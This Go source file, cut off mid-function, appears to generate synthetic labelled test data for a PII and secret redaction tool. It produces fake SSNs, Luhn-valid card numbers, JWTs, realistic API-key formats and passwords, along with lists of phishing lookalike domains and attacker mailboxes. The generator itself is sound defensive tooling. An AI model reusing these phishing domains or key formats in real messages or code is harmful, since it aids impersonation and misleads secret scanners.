package main

import (
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"hash/crc32"
	"math/rand"
	"strings"
	"unicode/utf16"
)

// P is a labelled personal or secret value; K a look-alike that must survive.
type P struct{ F, V string }

func (p P) String() string { return p.V }

type K string

func (k K) String() string { return string(k) }

type G struct {
	r    *rand.Rand
	used map[string]bool // only looked up, never iterated
}

func (g *G) pick(xs ...string) string { return xs[g.r.Intn(len(xs))] }
func (g *G) n(lo, hi int) int         { return lo + g.r.Intn(hi-lo+1) }
func (g *G) chance(p float64) bool    { return g.r.Float64() < p }

const (
	digits  = "0123456789"
	hexs    = "0123456789abcdef"
	alnum   = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
	b64url  = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
	b64std  = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
	lowers  = "abcdefghijklmnopqrstuvwxyz"
	uppers  = "ABCDEFGHIJKLMNOPQRSTUVWXYZ"
	b32     = "abcdefghijklmnopqrstuvwxyz234567"
	bech32c = "qpzry9x8gf2tvdw0s3jn54khce6mua7l"
)

func (g *G) rs(set string, n int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = set[g.r.Intn(len(set))]
	}
	return string(b)
}

// mixed returns a random string of set with at least one digit, one upper and one lower.
func (g *G) mixed(set string, n int) string {
	for {
		s := g.rs(set, n)
		if strings.ContainsAny(s, digits) && strings.ContainsAny(s, uppers) && strings.ContainsAny(s, lowers) {
			return s
		}
	}
}

// uniq registers a pii value; false if already used.
func (g *G) uniq(v string) bool {
	if g.used[v] {
		return false
	}
	g.used[v] = true
	return true
}

func (g *G) once(f string, mk func() string) P {
	for {
		v := mk()
		if g.uniq(v) {
			return P{f, v}
		}
	}
}

// ---------- names ----------

var firstEN = []string{"james", "mary", "robert", "patricia", "michael", "jennifer", "david", "linda", "william", "elizabeth", "daniel", "susan", "matthew", "jessica", "anthony", "sarah", "mark", "karen", "steven", "nancy", "andrew", "lisa", "kevin", "emily", "brian", "megan", "jason", "rachel", "tyler", "olivia", "ethan", "chloe", "noah", "grace", "lucas", "hannah", "omar", "priya", "wei", "fatima", "diego", "sofia", "mateo", "aisha", "kenji", "yuki", "lukas", "lena", "jonas", "marie", "pierre", "camille", "giulia", "marco", "pablo", "lucia", "ivan", "olga", "anna", "piotr", "agnieszka", "joao", "ana", "min-jun", "ji-woo", "arjun", "ananya", "thomas", "sanne", "daan"}
var lastEN = []string{"smith", "johnson", "williams", "brown", "jones", "garcia", "miller", "davis", "rodriguez", "martinez", "hernandez", "lopez", "wilson", "anderson", "thomas", "taylor", "moore", "jackson", "martin", "lee", "thompson", "white", "harris", "clark", "lewis", "walker", "hall", "young", "king", "wright", "nguyen", "patel", "kim", "chen", "wang", "tanaka", "sato", "suzuki", "mueller", "schmidt", "schneider", "fischer", "weber", "dubois", "lefebvre", "moreau", "rossi", "russo", "ferrari", "fernandez", "gonzalez", "ivanov", "petrova", "kowalski", "nowak", "silva", "santos", "oliveira", "park", "choi", "sharma", "iyer", "devries", "jansen", "okafor", "mensah", "haddad", "novak", "larsen", "lindqvist"}

var corpDomains = []string{"kestrel-fin.com", "brightwater-health.org", "orion-dynamics.io", "meridianbank.co.uk", "halvorsen-logistik.de", "tanaka-seiki.co.jp", "lumenpay.com.br", "bluefjord.no", "castellan-law.com", "verdant-energy.com", "pinecrest-univ.edu", "atlas-freight.com", "novacare-clinics.com", "silverline-retail.com", "quantix-labs.io", "redwood-insurance.com", "helios-media.fr", "ibercom-seguros.es", "stellar-aero.com", "granite-capital.com", "northgate-hotels.com", "mosaic-games.com", "cobalt-mining.com.au", "arcadia-pharma.it", "polder-water.nl", "wisla-bank.pl", "hanbit-tech.co.kr", "sakura-trading.jp", "greenleaf-foods.ca", "ironclad-sec.com"}
var freeDomains = []string{"gmail.com", "outlook.com", "yahoo.com", "hotmail.com", "icloud.com", "proton.me", "aol.com", "gmx.de", "web.de", "orange.fr", "free.fr", "libero.it", "yahoo.co.jp", "mail.ru", "yandex.ru", "qq.com", "163.com", "naver.com", "uol.com.br", "wp.pl", "hotmail.co.uk", "live.com", "t-online.de", "laposte.net", "ziggo.nl", "seznam.cz", "rediffmail.com", "bigpond.com"}
var badDomains = []string{"micr0soft-365-login.com", "paypal-resolution-center.net", "dhl-parcel-track.info", "docu-sign-review.xyz", "secure-wellsfargo-alert.com", "office365-mailbox-verify.top", "apple-id-unlock.support", "chase-verify-account.online", "netflix-billing-update.site", "amaz0n-orders-help.com", "linkedin-jobs-offer.click", "sharepoint-docs-share.live", "adobe-sign-docs.icu", "coinbase-wallet-restore.app", "irs-refund-status.org", "fedex-delivery-notice.shop", "ups-redelivery.cfd", "okta-sso-verify.net", "zoom-meeting-invite.biz", "wetransfer-files.pro"}
var badMailers = []string{"onionmail.org", "proton.me", "tutanota.com", "cock.li", "mail.ru", "gmail.com", "outlook.com", "yandex.com", "firemail.cc", "gmx.com"}

func (g *G) personLocal() string {
	f, l := g.pick(firstEN...), g.pick(lastEN...)
	switch g.r.Intn(7) {
	case 0:
		return f + "." + l
	case 1:
		return f[:1] + l
	case 2:
		return f + l + fmt.Sprint(g.n(1, 99))
	case 3:
		return f + "_" + l
	case 4:
		return f + "." + l + fmt.Sprint(g.n(70, 2005))
	case 5:
		return f[:1] + "." + l
	default:
		return l + "." + f
	}
}

func (g *G) EmailCorp() P {
	return g.once("email", func() string { return g.personLocal() + "@" + g.pick(corpDomains...) })
}
func (g *G) EmailFree() P {
	return g.once("email", func() string { return g.personLocal() + "@" + g.pick(freeDomains...) })
}
func (g *G) EmailAny() P {
	if g.chance(0.5) {
		return g.EmailCorp()
	}
	return g.EmailFree()
}
func (g *G) EmailCorpAt(dom string) P {
	return g.once("email", func() string { return g.personLocal() + "@" + dom })
}

var badLocals = []string{"billing", "no-reply", "support.team", "hr-payroll", "security-alert", "account.verify", "invoice", "docs.share", "helpdesk", "payroll.dept", "noreply-notify", "ceo.office", "accounts-payable", "mailbox.admin", "it.servicedesk", "secure.message", "refund", "delivery"}

// EmailBad is an attacker-side address: a lookalike domain or a throwaway mailbox.
func (g *G) EmailBad() P {
	return g.once("email", func() string {
		if g.chance(0.5) {
			return g.pick(badLocals...) + fmt.Sprint(g.pick("", "", "-", "."), g.n(1, 999)) + "@" + g.pick(badDomains...)
		}
		return g.pick(g.personLocal(), g.rs(lowers, g.n(6, 10))+fmt.Sprint(g.n(10, 9999)), "decrypt."+g.rs(lowers+digits, 8), "recovery_"+g.rs(lowers, 6)) + "@" + g.pick(badMailers...)
	})
}

// Defang makes user[@]host[.]tld style of an address (returns the new value).
func (g *G) DefangedEmail(bad bool) P {
	return g.once("email", func() string {
		var v string
		if bad {
			v = g.pick(badLocals...) + fmt.Sprint(g.n(1, 999)) + "@" + g.pick(badDomains...)
		} else {
			v = g.personLocal() + "@" + g.pick(badMailers...)
		}
		at := strings.Index(v, "@")
		loc, dom := v[:at], v[at+1:]
		switch g.r.Intn(4) {
		case 0:
			return loc + "[@]" + strings.ReplaceAll(dom, ".", "[.]")
		case 1:
			return loc + "[at]" + strings.ReplaceAll(dom, ".", "[.]")
		case 2:
			return loc + "[@]" + dom
		default:
			return loc + " [at] " + strings.ReplaceAll(dom, ".", " [dot] ")
		}
	})
}

// ---------- phones ----------

var usAreas = []string{"212", "312", "415", "617", "646", "702", "713", "786", "917", "303", "404", "206", "512", "614", "480", "972", "202", "305", "312", "469", "503", "571", "619", "720", "773", "801", "832", "858", "949", "980"}

func (g *G) nxx() string {
	for {
		s := fmt.Sprint(g.n(2, 9)) + g.rs(digits, 2)
		if s[1:] != "11" && s != "555" {
			return s
		}
	}
}

// Phone returns a phone number in a format typical for the country.
func (g *G) Phone(cc string) P {
	return g.once("phone", func() string {
		switch cc {
		case "us":
			a, b, c := g.pick(usAreas...), g.nxx(), g.rs(digits, 4)
			switch g.r.Intn(6) {
			case 0:
				return "+1 " + a + "-" + b + "-" + c
			case 1:
				return "(" + a + ") " + b + "-" + c
			case 2:
				return a + "-" + b + "-" + c
			case 3:
				return "+1 (" + a + ") " + b + "-" + c
			case 4:
				return a + "." + b + "." + c
			default:
				return "+1" + a + b + c
			}
		case "us+":
			return "+1" + g.pick(usAreas...) + g.nxx() + g.rs(digits, 4)
		case "tollfree":
			return g.pick("+1 ", "1-", "") + g.pick("888", "877", "866", "844", "833", "800") + "-" + g.nxx() + "-" + g.rs(digits, 4)
		case "uk":
			m := "7" + fmt.Sprint(g.n(4, 9)) + g.rs(digits, 2)
			if g.chance(0.5) {
				return "+44 " + m + " " + g.rs(digits, 6)
			}
			return "0" + m + " " + g.rs(digits, 6)
		case "de":
			switch g.r.Intn(3) {
			case 0:
				return "+49 1" + g.pick("51", "52", "57", "60", "62", "70", "71", "76") + " " + fmt.Sprint(g.n(1, 9)) + g.rs(digits, 7)
			case 1:
				return "+49 " + g.pick("30", "40", "69", "89", "221") + " " + fmt.Sprint(g.n(2, 9)) + g.rs(digits, 6)
			default:
				return "01" + g.pick("51", "52", "60", "70", "76") + " " + fmt.Sprint(g.n(1, 9)) + g.rs(digits, 7)
			}
		case "fr":
			p := fmt.Sprintf("%d %s %s %s %s", g.n(6, 7), g.rs(digits, 2), g.rs(digits, 2), g.rs(digits, 2), g.rs(digits, 2))
			if g.chance(0.5) {
				return "+33 " + p
			}
			return "0" + p
		case "es":
			return g.pick("+34 ", "") + fmt.Sprint(g.n(6, 7)) + g.rs(digits, 2) + " " + g.rs(digits, 3) + " " + g.rs(digits, 3)
		case "it":
			return "+39 3" + g.rs(digits, 2) + " " + g.rs(digits, 3) + " " + g.rs(digits, 4)
		case "nl":
			return "+31 6 " + fmt.Sprint(g.n(1, 9)) + g.rs(digits, 7)
		case "br":
			return g.pick("+55 ", "") + "(" + g.pick("11", "21", "31", "41", "51", "61", "71", "81") + ") 9" + fmt.Sprint(g.n(6, 9)) + g.rs(digits, 3) + "-" + g.rs(digits, 4)
		case "jp":
			m := g.pick("90", "80", "70") + "-" + fmt.Sprint(g.n(1, 9)) + g.rs(digits, 3) + "-" + g.rs(digits, 4)
			if g.chance(0.5) {
				return "+81 " + m
			}
			return "0" + m
		case "in":
			return "+91 " + fmt.Sprint(g.n(7, 9)) + g.rs(digits, 4) + " " + g.rs(digits, 5)
		case "ru":
			m := "9" + g.rs(digits, 2)
			if g.chance(0.5) {
				return "+7 " + m + " " + g.rs(digits, 3) + "-" + g.rs(digits, 2) + "-" + g.rs(digits, 2)
			}
			return "8 (" + m + ") " + g.rs(digits, 3) + "-" + g.rs(digits, 2) + "-" + g.rs(digits, 2)
		case "cn":
			return g.pick("+86 ", "+86-") + "1" + g.pick("38", "39", "36", "58", "86", "88", "77") + " " + g.rs(digits, 4) + " " + g.rs(digits, 4)
		case "kr":
			m := "10-" + fmt.Sprint(g.n(2, 9)) + g.rs(digits, 3) + "-" + g.rs(digits, 4)
			if g.chance(0.5) {
				return "+82 " + m
			}
			return "0" + m
		case "pl":
			return "+48 " + g.pick("5", "6", "7", "8") + g.rs(digits, 2) + " " + g.rs(digits, 3) + " " + g.rs(digits, 3)
		case "mx":
			return "+52 " + g.pick("55", "33", "81") + " " + fmt.Sprint(g.n(1, 9)) + g.rs(digits, 3) + " " + g.rs(digits, 4)
		case "au":
			return "+61 4" + g.rs(digits, 2) + " " + g.rs(digits, 3) + " " + g.rs(digits, 3)
		case "ng":
			return "+234 " + g.pick("803", "806", "813", "816", "703", "903") + " " + g.rs(digits, 3) + " " + g.rs(digits, 4)
		}
		panic("cc " + cc)
	})
}

func (g *G) PhoneIntl() P {
	return g.Phone(g.pick("us", "uk", "de", "fr", "es", "it", "nl", "br", "jp", "in", "ru", "kr", "pl", "mx", "au"))
}

// ---------- SSN / ITIN ----------

func (g *G) ssnRaw() (a, b, c string) {
	for {
		ar := g.n(1, 899)
		if ar == 666 {
			continue
		}
		return fmt.Sprintf("%03d", ar), fmt.Sprintf("%02d", g.n(1, 99)), fmt.Sprintf("%04d", g.n(1, 9999))
	}
}
func (g *G) SSN() P {
	return g.once("ssn", func() string { a, b, c := g.ssnRaw(); return a + "-" + b + "-" + c })
}
func (g *G) SSNsep(sep string) P {
	return g.once("ssn", func() string { a, b, c := g.ssnRaw(); return a + sep + b + sep + c })
}
func (g *G) ITIN() P {
	return g.once("ssn", func() string {
		grp := []int{}
		for i := 50; i <= 65; i++ {
			grp = append(grp, i)
		}
		for i := 70; i <= 88; i++ {
			grp = append(grp, i)
		}
		grp = append(grp, 90, 91, 92, 94, 95, 96, 97, 98, 99)
		return fmt.Sprintf("9%02d-%02d-%04d", g.n(0, 99), grp[g.r.Intn(len(grp))], g.n(1, 9999))
	})
}

// BadSSN is SSN-shaped but invalid (area 000/666, ITIN group out of range, group 00, serial 0000).
func (g *G) BadSSN() K {
	switch g.r.Intn(5) {
	case 0:
		return K(fmt.Sprintf("000-%02d-%04d", g.n(1, 99), g.n(1, 9999)))
	case 1:
		return K(fmt.Sprintf("666-%02d-%04d", g.n(1, 99), g.n(1, 9999)))
	case 2:
		return K(fmt.Sprintf("9%02d-%02d-%04d", g.n(0, 99), g.n(10, 49), g.n(1, 9999)))
	case 3:
		return K(fmt.Sprintf("%03d-00-%04d", g.n(100, 599), g.n(1, 9999)))
	default:
		return K(fmt.Sprintf("%03d-%02d-0000", g.n(100, 599), g.n(1, 99)))
	}
}

// ---------- cards ----------

func luhnDigit(s string) int {
	sum := 0
	dbl := true
	for i := len(s) - 1; i >= 0; i-- {
		d := int(s[i] - '0')
		if dbl {
			d *= 2
			if d > 9 {
				d -= 9
			}
		}
		sum += d
		dbl = !dbl
	}
	return (10 - sum%10) % 10
}

func (g *G) cardDigits(brand string) string {
	var pre string
	n := 16
	switch brand {
	case "visa":
		pre = "4" + g.pick("147", "266", "342", "539", "716", "024", "485", "556", "929", "388")
	case "mc":
		if g.chance(0.7) {
			pre = fmt.Sprint(g.n(51, 55))
		} else {
			pre = fmt.Sprint(g.n(2221, 2720))
		}
	case "amex":
		pre, n = g.pick("34", "37"), 15
	case "disc":
		pre = g.pick("6011", "65", "644", "649")
	case "jcb":
		pre = fmt.Sprint(g.n(3528, 3589))
	case "diners":
		pre, n = g.pick("36", "38", "300", "305"), 14
	case "unionpay":
		pre = "62" + g.pick("2126", "4", "5", "8")
	}
	body := pre + g.rs(digits, n-1-len(pre))
	return body + fmt.Sprint(luhnDigit(body))
}

func groupCard(d, sep string) string {
	var parts []string
	if len(d) == 15 {
		parts = []string{d[:4], d[4:10], d[10:]}
	} else if len(d) == 14 {
		parts = []string{d[:4], d[4:10], d[10:]}
	} else {
		for i := 0; i < len(d); i += 4 {
			e := i + 4
			if e > len(d) {
				e = len(d)
			}
			parts = append(parts, d[i:e])
		}
	}
	return strings.Join(parts, sep)
}

func (g *G) Card(brand, sep string) P {
	if brand == "" {
		brand = g.pick("visa", "visa", "visa", "mc", "mc", "amex", "disc", "jcb", "unionpay", "diners")
	}
	return g.once("credit_card", func() string {
		d := g.cardDigits(brand)
		if sep == "" {
			return d
		}
		return groupCard(d, sep)
	})
}

func (g *G) CardAny() P { return g.Card("", g.pick("", " ", "-", " ")) }

// LuhnFail is a 16-digit number with a card prefix whose check digit is wrong.
func (g *G) LuhnFail() K {
	d := g.cardDigits(g.pick("visa", "mc"))
	last := (int(d[15]-'0') + g.n(1, 9)) % 10
	return K(d[:15] + fmt.Sprint(last))
}

// ---------- JWT ----------

func b64u(b []byte) string { return base64.RawURLEncoding.EncodeToString(b) }

func (g *G) uuid() string {
	h := g.rs(hexs, 32)
	return h[:8] + "-" + h[8:12] + "-4" + h[13:16] + "-" + string("89ab"[g.r.Intn(4)]) + h[17:20] + "-" + h[20:]
}

func (g *G) jwtRaw(sub string) string {
	alg := g.pick("HS256", "RS256", "RS256", "ES256", "PS256")
	var hdr string
	if alg == "HS256" {
		hdr = `{"alg":"HS256","typ":"JWT"}`
	} else {
		hdr = fmt.Sprintf(`{"alg":"%s","kid":"%s","typ":"JWT"}`, alg, g.rs(b64url, 22))
	}
	iat := g.n(1700000000, 1760000000)
	if sub == "" {
		sub = g.uuid()
	}
	pl := g.pick(
		fmt.Sprintf(`{"sub":"%s","iat":%d,"exp":%d,"jti":"%s"}`, sub, iat, iat+3600, g.rs(hexs, 16)),
		fmt.Sprintf(`{"iss":"https://login.%s/","aud":"api://%s","sub":"%s","scp":"openid profile","iat":%d,"exp":%d}`, g.pick(corpDomains...), g.uuid(), sub, iat, iat+3599),
		fmt.Sprintf(`{"user_id":%d,"role":"%s","session":"%s","iat":%d,"exp":%d}`, g.n(1000, 9999999), g.pick("admin", "user", "analyst", "support"), g.rs(alnum, 20), iat, iat+86400),
		fmt.Sprintf(`{"aud":"%s","iss":"https://sts.windows.net/%s/","iat":%d,"nbf":%d,"exp":%d,"oid":"%s","tid":"%s","ver":"1.0"}`, "00000003-0000-0000-c000-000000000000", g.uuid(), iat, iat, iat+4500, g.uuid(), g.uuid()),
	)
	siglen := 32
	switch alg {
	case "RS256", "PS256":
		siglen = 256
	case "ES256":
		siglen = 64
	}
	sig := make([]byte, siglen)
	g.r.Read(sig)
	return b64u([]byte(hdr)) + "." + b64u([]byte(pl)) + "." + b64u(sig)
}

func (g *G) JWT() P { return g.once("jwt", func() string { return g.jwtRaw("") }) }
func (g *G) JWTNone() P {
	return g.once("jwt", func() string {
		return b64u([]byte(`{"alg":"none","typ":"JWT"}`)) + "." + b64u([]byte(fmt.Sprintf(`{"sub":"%d","role":"admin","iat":%d}`, g.n(100, 99999), g.n(1700000000, 1760000000)))) + "."
	})
}

// ---------- secrets ----------

func base62(n uint32, width int) string {
	const set = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
	b := make([]byte, width)
	for i := width - 1; i >= 0; i-- {
		b[i] = set[n%62]
		n /= 62
	}
	return string(b)
}

func (g *G) sec(mk func() string) P { return g.once("bearer", mk) }

func (g *G) GHP(pre string) P {
	return g.sec(func() string {
		body := g.mixed(alnum, 30)
		return pre + body + base62(crc32.ChecksumIEEE([]byte(body)), 6)
	})
}
func (g *G) GitHubPAT() P {
	return g.sec(func() string { return "github_pat_11" + g.rs(uppers+digits, 20) + "_" + g.mixed(alnum, 59) })
}
func (g *G) SlackBot() P {
	return g.sec(func() string {
		return "xoxb-" + fmt.Sprint(g.n(1, 9)) + g.rs(digits, 11) + "-" + fmt.Sprint(g.n(1, 9)) + g.rs(digits, 12) + "-" + g.mixed(alnum, 24)
	})
}
func (g *G) SlackUser() P {
	return g.sec(func() string {
		return "xoxp-" + fmt.Sprint(g.n(1, 9)) + g.rs(digits, 11) + "-" + fmt.Sprint(g.n(1, 9)) + g.rs(digits, 12) + "-" + fmt.Sprint(g.n(1, 9)) + g.rs(digits, 12) + "-" + g.rs(hexs, 32)
	})
}
func (g *G) GitLab() P { return g.sec(func() string { return "glpat-" + g.mixed(alnum+"-_", 20) }) }
func (g *G) Stripe() P {
	return g.sec(func() string { return g.pick("sk_live_", "rk_live_") + "51" + g.mixed(alnum, 97) })
}
func (g *G) StripeS() P { return g.sec(func() string { return "sk_live_" + g.mixed(alnum, 24) }) }
func (g *G) OpenAI() P {
	return g.sec(func() string { return "sk-proj-" + g.mixed(alnum+"-_", 74) + "T3BlbkFJ" + g.mixed(alnum+"-_", 74) })
}
func (g *G) Anthropic() P {
	return g.sec(func() string { return "sk-ant-api03-" + g.mixed(alnum+"-_", 93) + "AA" })
}
func (g *G) AWSSecret() P { return g.sec(func() string { return g.mixed(alnum+"+/", 40) }) }
func (g *G) AKIA() K      { return K(g.pick("AKIA", "AKIA", "ASIA") + g.rs(uppers+"234567", 16)) }
func (g *G) GoogleKey() P { return g.sec(func() string { return "AIza" + g.mixed(alnum+"-_", 35) }) }
func (g *G) SendGrid() P {
	return g.sec(func() string { return "SG." + g.mixed(b64url, 22) + "." + g.mixed(b64url, 43) })
}
func (g *G) NPM() P          { return g.sec(func() string { return "npm_" + g.mixed(alnum, 36) }) }
func (g *G) Vault() P        { return g.sec(func() string { return "hvs." + g.mixed(alnum+"_-", 24) }) }
func (g *G) HF() P           { return g.sec(func() string { return "hf_" + g.rs(uppers+lowers, 34) }) }
func (g *G) Shopify() P      { return g.sec(func() string { return "shpat_" + g.rs(hexs, 32) }) }
func (g *G) DigitalOcean() P { return g.sec(func() string { return "dop_v1_" + g.rs(hexs, 64) }) }
func (g *G) Hex32() P        { return g.sec(func() string { return g.rs(hexs, 32) }) }
func (g *G) Hex40() P        { return g.sec(func() string { return g.rs(hexs, 40) }) }
func (g *G) Opaque(n int) P  { return g.sec(func() string { return g.mixed(alnum, n) }) }
func (g *G) Telegram() P {
	return g.sec(func() string { return fmt.Sprint(g.n(5, 7)) + g.rs(digits, 9) + ":AA" + g.mixed(alnum+"_-", 33) })
}
func (g *G) DiscordHookToken() P { return g.sec(func() string { return g.mixed(alnum+"_-", 68) }) }
func (g *G) SlackHook() (string, P) {
	pre := "https://hooks.slack.com/services/T" + g.rs(uppers+digits, 10) + "/B" + g.rs(uppers+digits, 10) + "/"
	return pre, g.sec(func() string { return g.mixed(alnum, 24) })
}
func (g *G) AzureKey() P {
	return g.sec(func() string { b := make([]byte, 64); g.r.Read(b); return base64.StdEncoding.EncodeToString(b) })
}
func (g *G) Okta() P    { return g.sec(func() string { return "00" + g.mixed(alnum+"-_", 40) }) }
func (g *G) Mailgun() P { return g.sec(func() string { return "key-" + g.rs(hexs, 32) }) }
func (g *G) NTHash() P  { return g.sec(func() string { return g.rs(hexs, 32) }) }
func (g *G) BasicCred(user string) P {
	return g.sec(func() string { return base64.StdEncoding.EncodeToString([]byte(user + ":" + g.Password().V)) })
}
func (g *G) B64Secret() P {
	return g.sec(func() string { return base64.StdEncoding.EncodeToString([]byte(g.pwRaw())) })
}

var pwWords = []string{"Summer", "Winter", "Spring", "Autumn", "Welcome", "Password", "Company", "Liverpool", "Chelsea", "Dragon", "Monkey", "Sunshine", "Princess", "Football", "Baseball", "Shadow", "Master", "Michael", "Jordan", "Hunter", "Tigger", "Charlie", "Ranger", "Buster", "Soccer", "Harley", "Maggie", "Ginger", "Pepper", "Thunder", "Falcon", "Berlin", "Madrid", "Bonjour", "Sakura", "Hallo", "Qwerty", "Letmein", "Trustno", "Starwars", "Corvette", "Matrix", "Orange", "Banana", "Cookie", "Pumpkin", "Snoopy", "Zaq1", "Kestrel", "Brightwater", "Helios", "Atlas"}

func (g *G) pwRaw() string {
	w := g.pick(pwWords...)
	if g.chance(0.3) {
		w = strings.ToLower(w)
	}
	switch g.r.Intn(7) {
	case 0:
		return w + fmt.Sprint(g.n(2015, 2025)) + g.pick("!", "#", "$", "!!", "@", ".")
	case 1:
		return w + fmt.Sprint(g.n(1, 999)) + g.pick("!", "", "?", "*")
	case 2:
		return strings.ToLower(w) + fmt.Sprint(g.n(1960, 2012))
	case 3:
		return g.mixed(alnum, g.n(10, 16))
	case 4:
		return g.mixed(alnum, 8) + g.pick("!", "#", "%", "&", "*", "$") + g.rs(digits, 2)
	case 5:
		return w + g.pick("_", ".", "-", "@") + g.pick(pwWords...) + fmt.Sprint(g.n(1, 99))
	default:
		return g.rs(uppers, 1) + g.rs(lowers, g.n(4, 7)) + g.pick("#", "!", "$") + g.rs(digits, g.n(3, 5))
	}
}
func (g *G) Password() P { return g.sec(g.pwRaw) }

func (g *G) PEMBody() P {
	return g.sec(func() string {
		b := make([]byte, 64*g.n(8, 14))
		g.r.Read(b)
		s := "MIIE" + base64.StdEncoding.EncodeToString(b)
		var lines []string
		for i := 0; i < len(s); i += 64 {
			e := i + 64
			if e > len(s) {
				e = len(s)
			}
			lines = append(lines, s[i:e])
		}
		return strings.Join(lines, "\n")
	})
}

// ---------- look-alikes ----------

func (g *G) MD5() K     { return K(g.rs(hexs, 32)) }
func (g *G) SHA1() K    { return K(g.rs(hexs, 40)) }
func (g *G) SHA256() K  { return K(g.rs(hexs, 64)) }
func (g *G) SHA256U() K { return K(strings.ToUpper(g.rs(hexs, 64))) }

var pubOctets = []int{5, 23, 31, 37, 45, 46, 62, 77, 80, 85, 89, 91, 93, 103, 104, 141, 146, 154, 159, 176, 178, 185, 188, 193, 194, 195, 212, 213, 217}

func (g *G) IP() K {
	return K(fmt.Sprintf("%d.%d.%d.%d", pubOctets[g.r.Intn(len(pubOctets))], g.n(1, 254), g.n(0, 254), g.n(1, 254)))
}
func (g *G) IPin() K {
	switch g.r.Intn(3) {
	case 0:
		return K(fmt.Sprintf("10.%d.%d.%d", g.n(0, 254), g.n(0, 254), g.n(1, 254)))
	case 1:
		return K(fmt.Sprintf("172.%d.%d.%d", g.n(16, 31), g.n(0, 254), g.n(1, 254)))
	}
	return K(fmt.Sprintf("192.168.%d.%d", g.n(0, 254), g.n(1, 254)))
}
func (g *G) IPv6() K {
	return K(fmt.Sprintf("2a0%d:%s:%s::%s", g.n(1, 9), g.rs(hexs, 4), g.rs(hexs, 4), g.rs(hexs, 3)))
}
func (g *G) DefIP() K {
	ip := string(g.IP())
	i := strings.LastIndex(ip, ".")
	return K(ip[:i] + "[.]" + ip[i+1:])
}

var realCVEs = []string{"CVE-2021-44228", "CVE-2023-23397", "CVE-2024-3400", "CVE-2023-4966", "CVE-2024-21412", "CVE-2023-34362", "CVE-2022-30190", "CVE-2023-20198", "CVE-2024-1709", "CVE-2023-46805", "CVE-2024-21887", "CVE-2021-34527", "CVE-2020-1472", "CVE-2023-22515", "CVE-2024-6387", "CVE-2023-27997", "CVE-2022-41040", "CVE-2021-26855", "CVE-2024-23897", "CVE-2023-36884", "CVE-2024-47575", "CVE-2025-0282", "CVE-2024-55956", "CVE-2023-44487"}

func (g *G) CVE() K {
	if g.chance(0.6) {
		return K(g.pick(realCVEs...))
	}
	return K(fmt.Sprintf("CVE-%d-%d", g.n(2019, 2025), g.n(1000, 52999)))
}

var asns = []string{"AS13335", "AS14061", "AS16509", "AS24940", "AS9009", "AS20473", "AS63949", "AS51167", "AS202425", "AS4134", "AS45102", "AS49981", "AS212238", "AS8075", "AS15169", "AS396982", "AS57523", "AS44477"}

func (g *G) ASN() K { return K(g.pick(asns...)) }

var tlds = []string{"com", "net", "top", "xyz", "info", "online", "site", "ru", "cn", "live", "icu", "shop", "click"}
var domWords = []string{"secure", "login", "account", "verify", "update", "cdn", "static", "api", "portal", "auth", "mail", "docs", "share", "cloud", "sync", "pay", "wallet", "support", "office", "drive"}

func (g *G) BadDomain() K {
	return K(g.pick(domWords...) + "-" + g.pick(domWords...) + fmt.Sprint(g.pick("", "", fmt.Sprint(g.n(1, 99)))) + "." + g.pick(tlds...))
}
func defang(d string) string { return strings.ReplaceAll(d, ".", "[.]") }
func (g *G) DefDomain() K    { return K(defang(string(g.BadDomain()))) }
func (g *G) DefURL() K {
	d := string(g.BadDomain())
	path := g.pick("/login.php", "/wp-includes/auth/index.html", "/o365/signin", "/secure/verify?id="+g.rs(alnum, 10), "/invoice/"+g.rs(digits, 6)+".zip", "/track?c="+g.rs(hexs, 12), "/dl/"+g.rs(alnum, 8)+".iso", "/")
	return K(g.pick("hxxps://", "hxxp://", "hxxps[:]//") + defang(d) + path)
}
func (g *G) Ticket() K {
	switch g.r.Intn(5) {
	case 0:
		return K(fmt.Sprintf("INC%07d", g.n(10000, 9999999)))
	case 1:
		return K(fmt.Sprintf("SOC-%d-%04d", g.n(2023, 2025), g.n(1, 9999)))
	case 2:
		return K(fmt.Sprintf("SEC-%d", g.n(100, 29999)))
	case 3:
		return K(fmt.Sprintf("IR-%d-%03d", g.n(2023, 2025), g.n(1, 999)))
	}
	return K(fmt.Sprintf("CS%08d", g.n(1000000, 99999999)))
}
func (g *G) SID() K {
	return K(fmt.Sprintf("S-1-5-21-%d-%d-%d-%d", g.n(1000000000, 4294967295), g.n(1000000000, 4294967295), g.n(100000000, 4294967295), g.n(500, 9999)))
}
func (g *G) UUID() K     { return K(g.uuid()) }
func (g *G) RecordID() K { return K(fmt.Sprint(g.n(100000000, 2147483647))) }
func (g *G) Epoch() K    { return K(fmt.Sprint(g.n(1700000000, 1760000000))) }
func (g *G) EpochMs() K  { return K(fmt.Sprint(g.n(1700000000, 1760000000)) + g.rs(digits, 3)) }
func (g *G) Mitre() K {
	return K(g.pick("T1566.001", "T1566.002", "T1059.001", "T1078", "T1110.003", "T1003.001", "T1486", "T1021.002", "T1552.001", "T1539", "T1557", "T1071.001", "T1190", "T1204.002", "T1555.003", "T1098.005"))
}
func (g *G) Date() K {
	return K(fmt.Sprintf("%d-%02d-%02d", g.n(2023, 2025), g.n(1, 12), g.n(1, 28)))
}
func (g *G) TS() K {
	return K(fmt.Sprintf("%d-%02d-%02dT%02d:%02d:%02d.%03dZ", g.n(2023, 2025), g.n(1, 12), g.n(1, 28), g.n(0, 23), g.n(0, 59), g.n(0, 59), g.n(0, 999)))
}
func (g *G) Time() string { return fmt.Sprintf("%02d:%02d:%02d", g.n(0, 23), g.n(0, 59), g.n(0, 59)) }
func (g *G) Port() string {
	return fmt.Sprint(g.pick("443", "80", "8080", "8443", "445", "3389", "22", "4444", "53", "25", "587", "1433", "3306", fmt.Sprint(g.n(49152, 65535))))
}
func (g *G) MAC() K {
	return K(strings.ToUpper(fmt.Sprintf("%s:%s:%s:%s:%s:%s", g.rs(hexs, 2), g.rs(hexs, 2), g.rs(hexs, 2), g.rs(hexs, 2), g.rs(hexs, 2), g.rs(hexs, 2))))
}
func (g *G) Host() string {
